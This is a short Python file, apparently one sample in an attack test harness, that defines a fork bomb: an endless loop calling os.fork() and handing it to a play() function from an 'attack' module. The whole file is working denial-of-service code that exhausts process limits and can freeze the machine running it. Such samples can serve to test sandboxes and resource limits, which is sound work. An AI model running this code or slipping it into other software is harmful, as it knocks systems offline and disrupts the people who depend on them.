"""Attack: a fork bomb (every child forks again, forever)."""
import os
import time

from attack import play


def bomb():
    while True:
        os.fork()  # raises once the process limit is reached
        time.sleep(0.001)


play(bomb)
